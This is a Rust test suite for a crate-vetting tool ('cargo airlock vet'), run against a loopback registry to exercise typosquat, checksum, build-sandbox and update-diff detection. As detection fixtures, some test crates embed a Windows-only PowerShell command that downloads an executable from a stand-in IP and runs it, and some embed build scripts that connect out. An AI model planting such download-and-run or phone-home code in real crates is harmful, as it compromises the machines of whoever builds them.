//! `cargo airlock vet` against a real sparse registry served over loopback by the test itself
//! (the server of `runner/tests/vet_registry`): `.crate` files built here, `pubtime` per version,
//! pointed at with `CARGO_REGISTRIES_FIXTURES_INDEX` and `--registry fixtures`, and a cargo home
//! of the test's own, so that cargo builds from the same registry and nothing touches the
//! internet. Everything a fixture attempts aims at loopback ports the test opened.

use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use serde_json::Value;

use crate::registry_server::{history, index_path, sha256, tarball, v, Registry, Route, DAY};
use crate::support::{bin, Scene};

const YEAR: Duration = Duration::from_secs(365 * 24 * 3600);

/// A registry with a test cargo home and a cache, and the vet runs against it.
pub(crate) struct Fixture {
    pub(crate) registry: Registry,
    pub(crate) scene: Scene,
}

pub(crate) struct Vet {
    pub(crate) code: i32,
    pub(crate) stderr: String,
    pub(crate) report: Value,
    pub(crate) report_dir: PathBuf,
}

impl Fixture {
    pub(crate) fn new(name: &str) -> Self {
        let scene = Scene::new(name);
        std::fs::create_dir_all(scene.path("cargo-home")).unwrap();
        // The probe project depends on `arbitrary` from crates.io: served from a directory
        // source made from the local cargo cache, so these tests never touch the internet.
        let vendor = scene.path("vendor");
        crate::vet_probe::vendor_arbitrary(&vendor);
        std::fs::write(
            scene.path("cargo-home/config.toml"),
            format!(
                "[source.crates-io]\nreplace-with = \"airlock-test-vendor\"\n\n\
                 [source.airlock-test-vendor]\ndirectory = {:?}\n",
                vendor.display().to_string()
            ),
        )
        .unwrap();
        Self {
            registry: Registry::start(),
            scene,
        }
    }

    pub(crate) fn cache(&self) -> PathBuf {
        self.scene.path("cache")
    }

    /// Publishes `name` `version` (a year old, after a history of older versions) with `files`
    /// and the manifest `extra` lines.
    pub(crate) fn publish(
        &self,
        name: &str,
        version: &str,
        extra_manifest: &str,
        files: &[(&str, &str)],
    ) {
        let mut versions = history(4, 3 * YEAR, YEAR);
        for (i, old) in versions.iter_mut().enumerate() {
            old.vers = format!("0.0.{i}");
        }
        self.registry.publish(name, &versions);
        let krate = crate_file(name, version, extra_manifest, files);
        self.registry
            .publish_file(name, &v(version, false, 200 * DAY), &krate, &sha256(&krate));
    }

    /// `cargo airlock vet ARGS --registry fixtures --cache-dir C --report-dir R` under CI=true.
    fn vet(&self, args: &[&str]) -> Vet {
        self.vet_into(args, Some(self.scene.path("report")))
    }

    /// [`Fixture::vet`] with the report in `report_dir` (None: vet's default, read from
    /// `./airlock-vet` of the scene).
    fn vet_into(&self, args: &[&str], report_dir: Option<PathBuf>) -> Vet {
        let mut cmd = fixture_command(&self.scene, &self.registry, bin());
        cmd.arg("vet").args(args);
        if !args.contains(&"--registry") {
            cmd.args(["--registry", "fixtures"]);
        }
        if let Some(dir) = &report_dir {
            cmd.arg("--report-dir").arg(dir);
        }
        let report_dir = report_dir.unwrap_or_else(|| self.scene.path("airlock-vet"));
        cmd.arg("--cache-dir").arg(self.cache());
        run_vet(cmd, report_dir)
    }
}

/// `program` (cargo-airlock, cargo) with a fixture scene's environment: the scene's cargo home,
/// the loopback registry as `fixtures`, CI=true (one progress line per step), no target
/// directory of the caller's, the scene's directory as its working directory.
pub(crate) fn fixture_command(
    scene: &Scene,
    registry: &Registry,
    program: impl AsRef<std::ffi::OsStr>,
) -> Command {
    let mut cmd = Command::new(program);
    cmd.env("CI", "true")
        .env("CARGO_HOME", scene.path("cargo-home"))
        .env("CARGO_REGISTRIES_FIXTURES_INDEX", registry.index_url())
        .env_remove("CARGO_TARGET_DIR")
        .env_remove("CARGO_BUILD_TARGET_DIR")
        .current_dir(scene.dir.path());
    cmd
}

/// Runs a `cargo-airlock vet` command whose report goes to `report_dir`; its exit code,
/// stderr and `report.json` (null when none was written).
pub(crate) fn run_vet(mut cmd: Command, report_dir: PathBuf) -> Vet {
    let out = cmd.output().expect("cargo-airlock runs");
    Vet {
        code: out.status.code().unwrap_or(-1),
        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
        report: read_json(&report_dir.join("report.json")),
        report_dir,
    }
}

/// A JSON file's value; null when it is missing or not JSON.
pub(crate) fn read_json(path: &Path) -> Value {
    std::fs::read_to_string(path)
        .ok()
        .and_then(|t| serde_json::from_str(&t).ok())
        .unwrap_or(Value::Null)
}

impl Vet {
    #[track_caller]
    pub(crate) fn expect_code(&self, code: i32) {
        assert_eq!(
            self.code, code,
            "exit code; stderr:\n{}\nreport: {:#}",
            self.stderr, self.report["verdict"]
        );
    }

    pub(crate) fn verdict(&self) -> &str {
        self.report["verdict"]["verdict"].as_str().unwrap_or("")
    }

    fn reason_codes(&self) -> Vec<String> {
        self.report["verdict"]["reasons"]
            .as_array()
            .map(|rs| {
                rs.iter()
                    .map(|r| {
                        format!(
                            "{}/{}",
                            r["phase"].as_str().unwrap(),
                            r["code"].as_str().unwrap()
                        )
                    })
                    .collect()
            })
            .unwrap_or_default()
    }

    pub(crate) fn phase(&self, name: &str) -> &Value {
        self.report["phases"]
            .as_array()
            .and_then(|ps| ps.iter().find(|p| p["phase"] == name))
            .unwrap_or_else(|| panic!("no phase {name}: {:#}", self.report["phases"]))
    }
}

/// A `.crate`: `NAME-VERSION/Cargo.toml` (with `extra` manifest lines) plus `files`.
pub(crate) fn crate_file(
    name: &str,
    version: &str,
    extra: &str,
    files: &[(&str, &str)],
) -> Vec<u8> {
    let manifest = format!(
        "[package]\nname = \"{name}\"\nversion = \"{version}\"\nedition = \"2021\"\n{extra}\n"
    );
    let all: Vec<(&str, &[u8])> = std::iter::once(("Cargo.toml", manifest.as_str()))
        .chain(files.iter().copied())
        .map(|(p, d)| (p, d.as_bytes()))
        .collect();
    tarball(name, version, &all)
}

fn files_under(dir: &Path) -> usize {
    std::fs::read_dir(dir).map_or(0, |d| d.flatten().count())
}

#[test]
fn a_clean_crate_is_built_from_the_registry_and_comes_out_clean() {
    let f = Fixture::new("vet_clean");
    f.publish(
        "tidy-parse",
        "1.2.0",
        "",
        &[("src/lib.rs", "pub fn parse(s: &str) -> usize { s.len() }\n")],
    );
    // Without --report-dir, outside any workspace: ./airlock-vet.
    let run = f.vet_into(&["tidy-parse"], None);
    run.expect_code(0);
    assert_eq!(run.verdict(), "clean");
    assert_eq!(run.report["command"], "vet");
    assert_eq!(run.report["provenance"][0]["version"], "1.2.0");
    assert_eq!(run.report["inventory"][0]["name"], "tidy-parse");
    assert_eq!(run.phase("build")["status"], "ran", "{}", run.stderr);
    // The fuzz phase ran (this crate has nothing to fuzz), or said why not (no nightly).
    let fuzz = run.phase("fuzz");
    assert!(
        fuzz["status"] == "ran"
            || fuzz["reason"]
                .as_str()
                .is_some_and(|r| r.contains("nightly")),
        "{fuzz:#}"
    );
    let built = run.report["crates"].as_array().unwrap();
    assert!(built
        .iter()
        .any(|c| c["name"] == "tidy-parse" && c["verdict"] == "clean"));
    assert!(!built.iter().any(|c| c["name"] == "airlock-vet-scratch"));
    for ext in ["json", "md", "sarif", "html"] {
        assert!(
            f.scene.path(&format!("airlock-vet/report.{ext}")).is_file(),
            "{ext}"
        );
    }
    let md = std::fs::read_to_string(f.scene.path("airlock-vet/report.md")).unwrap();
    assert!(md.find("## Verdict: clean").unwrap() < md.find("## Provenance").unwrap());
    assert!(run.stderr.contains("airlock vet: CLEAN"), "{}", run.stderr);
    assert!(
        run.stderr.contains("airlock: build of tidy-parse 1.2.0"),
        "{}",
        run.stderr
    );
}

#[test]
fn a_crate_that_does_not_exist_is_exit_1_and_nothing_else_runs_for_it() {
    let f = Fixture::new("vet_missing");
    f.publish("tidy-parse", "1.2.0", "", &[("src/lib.rs", "")]);
    let run = f.vet(&["tidy-pars"]);
    run.expect_code(1);
    assert_eq!(run.verdict(), "suspicious");
    assert_eq!(run.report["provenance"][0]["exists"], false);
    assert!(run
        .reason_codes()
        .contains(&"provenance/not-found".to_owned()));
    let skipped = run.phase("build")["skipped_crates"].to_string();
    assert!(
        skipped.contains("tidy-pars: it does not exist"),
        "{skipped}"
    );
    assert!(run.stderr.contains("not-found"), "{}", run.stderr);
    assert!(run.report["inventory"].is_null() && run.report["crates"] == Value::Array(vec![]));
    // With a real crate beside it: one report, a verdict per crate, exit 1 still.
    let both = f.vet(&[
        "tidy-parse",
        "tidy-pars",
        "--phases",
        "provenance,inventory",
    ]);
    both.expect_code(1);
    let crates = &both.report["verdict"]["crates"];
    assert_eq!(crates[0]["name"], "tidy-parse");
    assert_eq!(crates[0]["verdict"], "clean");
    assert_eq!(crates[1]["verdict"], "suspicious");
    assert_eq!(both.report["inventory"][0]["name"], "tidy-parse");
}

#[test]
fn a_young_typo_neighbour_of_an_established_crate_is_exit_1() {
    let f = Fixture::new("vet_typo");
    f.registry
        .publish("fastrand", &history(30, 6 * YEAR, 20 * DAY));
    f.registry
        .publish("fastrnad", &[v("2.0.0", false, 2 * DAY)]);
    let run = f.vet(&["fastrnad", "--phases", "provenance,inventory"]);
    run.expect_code(1);
    assert!(run
        .reason_codes()
        .contains(&"provenance/typo-neighbour".to_owned()));
    assert_eq!(run.phase("build")["status"], "skipped");
    // The real crate is clean.
    let real = f.vet(&["fastrand", "--phases", "provenance,inventory"]);
    real.expect_code(0);
}

#[test]
fn a_build_script_that_connects_out_is_denied_recorded_and_exit_1() {
    let f = Fixture::new("vet_connect");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let build_rs = format!(
        "fn main() {{\n    let _ = std::net::TcpStream::connect((\"127.0.0.1\", {port}));\n}}\n"
    );
    f.publish(
        "phone-home",
        "0.4.1",
        "build = \"build.rs\"",
        &[("src/lib.rs", "pub fn f() {}\n"), ("build.rs", &build_rs)],
    );
    let run = f.vet(&["phone-home@0.4.1"]);
    run.expect_code(1);
    let krate = run.report["crates"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "phone-home")
        .unwrap_or_else(|| {
            panic!(
                "no phone-home in {:#}\n{}",
                run.report["crates"], run.stderr
            )
        });
    assert_eq!(krate["verdict"], "suspicious");
    let denied = krate["events"].as_array().unwrap().iter().any(|e| {
        e["kind"] == "net"
            && e["decision"] == "denied"
            && e["detail"]["address"]
                .as_str()
                .is_some_and(|a| a.contains(&port.to_string()))
    });
    assert!(denied, "{:#}", krate["events"]);
    let reasons = run.report["verdict"]["reasons"].as_array().unwrap();
    let build_reason = reasons
        .iter()
        .find(|r| r["phase"] == "build")
        .expect("a build reason");
    assert!(build_reason["evidence"]
        .as_str()
        .unwrap()
        .contains(&port.to_string()));
    assert!(
        listener.accept().is_err(),
        "the build script reached the listener"
    );
    // The inventory saw the network use too (a capability, not an alarm).
    assert!(run.report["inventory"][0]["capabilities"]["net"].is_object());
    assert!(run.report_dir.join("report.sarif").is_file());
}

#[test]
fn a_windows_only_payload_is_seen_on_linux() {
    let f = Fixture::new("vet_windows");
    let lib = r#"
pub fn f() {}

#[cfg(windows)]
pub fn update() {
    let _ = std::process::Command::new("powershell")
        .args(["-NoProfile", "-Command", "iwr http://203.0.113.9:8443/u.exe -OutFile $env:TEMP\\u.exe; & $env:TEMP\\u.exe"])
        .spawn();
}
"#;
    f.publish("win-helper", "0.2.0", "", &[("src/lib.rs", lib)]);
    let run = f.vet(&["win-helper", "--phases", "provenance,inventory"]);
    run.expect_code(1);
    let reasons = run.report["verdict"]["reasons"].as_array().unwrap();
    let inv = reasons
        .iter()
        .find(|r| r["phase"] == "inventory")
        .unwrap_or_else(|| panic!("no inventory reason: {reasons:#?}"));
    assert!(
        inv["location"].as_str().unwrap().starts_with("src/lib.rs:"),
        "{inv:#}"
    );
    let sarif: Value = serde_json::from_str(
        &std::fs::read_to_string(run.report_dir.join("report.sarif")).unwrap(),
    )
    .unwrap();
    let located = sarif["runs"][0]["results"]
        .as_array()
        .unwrap()
        .iter()
        .any(|r| {
            r["ruleId"].as_str().unwrap().starts_with("inventory/")
                && r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"]
                    == "win-helper-0.2.0/src/lib.rs"
        });
    assert!(located, "{sarif:#}");
}

#[test]
fn bad_specs_are_exit_2_and_say_what_is_wrong() {
    let f = Fixture::new("vet_bad_spec");
    for (spec, needle) in [
        ("foo@@1", "is not a version"),
        ("foo@notaversion", "`notaversion` is not a version"),
        ("@1.0.0", "is not a crate name"),
    ] {
        let run = f.vet(&[spec]);
        run.expect_code(2);
        assert!(run.stderr.contains(needle), "{spec}: {}", run.stderr);
        assert!(run.stderr.contains(spec), "{spec}: {}", run.stderr);
    }
    assert_eq!(files_under(&f.cache()), 0, "nothing fetched for a bad spec");
}

#[test]
fn unknown_and_unreachable_registries_are_exit_2_naming_them() {
    let f = Fixture::new("vet_registries");
    let run = f.vet(&["foo", "--registry", "nosuch"]);
    run.expect_code(2);
    assert!(
        run.stderr.contains("`nosuch`") && run.stderr.contains("CARGO_REGISTRIES_NOSUCH_INDEX"),
        "{}",
        run.stderr
    );
    // A port nothing listens on.
    let dead = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("sparse+http://{}/index/", dead.local_addr().unwrap());
    drop(dead);
    let out = Command::new(bin())
        .args(["vet", "foo", "--registry", "dead", "--phases", "provenance"])
        .arg("--cache-dir")
        .arg(f.cache())
        .arg("--report-dir")
        .arg(f.scene.path("dead-report"))
        .env("CI", "true")
        .env("CARGO_HOME", f.scene.path("cargo-home"))
        .env("CARGO_REGISTRIES_DEAD_INDEX", &url)
        .current_dir(f.scene.dir.path())
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("registry `dead`"), "{stderr}");
}

#[test]
fn a_checksum_mismatch_is_exit_2_and_nothing_is_built() {
    let f = Fixture::new("vet_cksum");
    let krate = crate_file("swapped", "1.0.0", "", &[("src/lib.rs", "pub fn f() {}\n")]);
    let other = sha256(b"something else");
    f.registry
        .publish_file("swapped", &v("1.0.0", false, 400 * DAY), &krate, &other);
    let run = f.vet(&["swapped"]);
    run.expect_code(2);
    assert_eq!(run.verdict(), "failed");
    assert!(
        run.stderr
            .contains("served something other than what its index lists"),
        "{}",
        run.stderr
    );
    assert!(run.phase("build")["skipped_crates"]
        .to_string()
        .contains("swapped 1.0.0"));
    assert!(run.report["crates"].as_array().unwrap().is_empty());
    assert_eq!(
        files_under(&f.cache().join("scratch")),
        0,
        "a scratch workspace was made"
    );
}

#[test]
fn a_build_that_fails_on_its_own_is_exit_2_with_the_log_named() {
    let f = Fixture::new("vet_broken");
    f.publish(
        "half-done",
        "0.1.0",
        "",
        &[("src/lib.rs", "pub fn f( -> u8 { 1 }\n")],
    );
    let run = f.vet(&["half-done"]);
    run.expect_code(2);
    assert_eq!(run.verdict(), "failed");
    assert!(run.stderr.contains("failed on its own"), "{}", run.stderr);
    assert!(run.stderr.contains("cargo-build.log"), "{}", run.stderr);
    assert_eq!(run.report["summary"]["build_succeeded"], false);
}

#[test]
fn a_dependency_of_the_crate_is_inventoried_too() {
    let f = Fixture::new("vet_dep_inventory");
    let payload = r#"
#[cfg(windows)]
pub fn init() {
    let _ = std::process::Command::new("powershell")
        .args(["-NoProfile", "-Command", "iwr http://203.0.113.7:8443/p.exe -OutFile p.exe; ./p.exe"])
        .spawn();
}
"#;
    f.publish("quiet-helper", "0.1.3", "", &[("src/lib.rs", payload)]);
    // `nice-wrapper` 1.0.0 depends on it (in the index, and in its manifest from this registry).
    let index = f.registry.index_url();
    let manifest = format!(
        "[dependencies]\nquiet-helper = {{ version = \"0.1\", registry-index = \"{index}\" }}"
    );
    let krate = crate_file(
        "nice-wrapper",
        "1.0.0",
        &manifest,
        &[("src/lib.rs", "pub fn wrap() {}\n")],
    );
    let pubtime = humantime::format_rfc3339_seconds(std::time::SystemTime::now() - 300 * DAY);
    let line = format!(
        r#"{{"name":"nice-wrapper","vers":"1.0.0","deps":[{{"name":"quiet-helper","req":"^0.1","features":[],"optional":false,"default_features":true,"target":null,"kind":"normal","registry":null}}],"cksum":"{}","features":{{}},"yanked":false,"links":null,"pubtime":"{pubtime}"}}"#,
        sha256(&krate)
    );
    f.registry
        .route(&index_path("nice-wrapper"), Route::Body(line.into_bytes()));
    f.registry
        .route("/dl/nice-wrapper/1.0.0/download", Route::Body(krate));
    let run = f.vet(&["nice-wrapper", "--phases", "provenance,inventory"]);
    run.expect_code(1);
    let names: Vec<&str> = run.report["inventory"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["nice-wrapper", "quiet-helper"], "{}", run.stderr);
    let reasons = run.report["verdict"]["crates"][0]["reasons"]
        .as_array()
        .unwrap();
    assert!(
        reasons
            .iter()
            .any(|r| r["phase"] == "inventory" && r["crate"] == "quiet-helper 0.1.3"),
        "{reasons:#?}"
    );
}

#[test]
fn a_hijacked_update_shows_its_new_build_script_and_attempt_in_the_diff() {
    let f = Fixture::new("vet_update");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let port = listener.local_addr().unwrap().port();
    let lib = "pub fn add(a: u32, b: u32) -> u32 { a + b }\n";
    f.publish("sum-up", "1.0.0", "", &[("src/lib.rs", lib)]);
    let build_rs = format!(
        "fn main() {{\n    let _ = std::net::TcpStream::connect((\"127.0.0.1\", {port}));\n}}\n"
    );
    let hijacked = crate_file(
        "sum-up",
        "1.0.1",
        "build = \"build.rs\"",
        &[("src/lib.rs", lib), ("build.rs", &build_rs)],
    );
    f.registry.publish_file(
        "sum-up",
        &v("1.0.1", false, 3 * crate::registry_server::HOUR),
        &hijacked,
        &sha256(&hijacked),
    );
    let run = f.vet(&["sum-up@1.0.0..1.0.1"]);
    run.expect_code(1);
    let diff = &run.report["diff"];
    assert_eq!(diff["old"], "1.0.0");
    assert_eq!(diff["new"], "1.0.1");
    assert_eq!(diff["build_script"], "added", "{diff:#}");
    assert!(diff["files"].to_string().contains("build.rs"), "{diff:#}");
    assert!(diff["capabilities"].to_string().contains("net"), "{diff:#}");
    assert!(
        diff["events"].to_string().contains("denied net/connect"),
        "{diff:#}"
    );
    let codes = run.reason_codes();
    assert!(
        codes.contains(&"diff/build-script-added".to_owned()),
        "{codes:?}"
    );
    assert!(
        codes.contains(&"build/denied net/connect".to_owned()),
        "{codes:?}"
    );
    assert_eq!(run.phase("diff")["status"], "ran");
    // OLD was vetted too, clean, with its own report.
    let old: Value = serde_json::from_str(
        &std::fs::read_to_string(run.report_dir.join("old/report.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(old["verdict"]["verdict"], "clean");
    assert!(
        listener.accept().is_err(),
        "the build script reached the listener"
    );
    assert!(
        run.stderr
            .contains("Update sum-up 1.0.0 -> 1.0.1: added build script added"),
        "{}",
        run.stderr
    );
}

#[test]
fn an_update_is_vetted_alone_and_written_with_two_versions() {
    let f = Fixture::new("vet_update_bad");
    for (args, needle) in [
        (vec!["a@1.0.0..1.0.1", "b"], "on its own"),
        (vec!["a@1.0.0.."], "CRATE@OLD..NEW"),
    ] {
        let run = f.vet(&args);
        run.expect_code(2);
        assert!(run.stderr.contains(needle), "{args:?}: {}", run.stderr);
    }
}
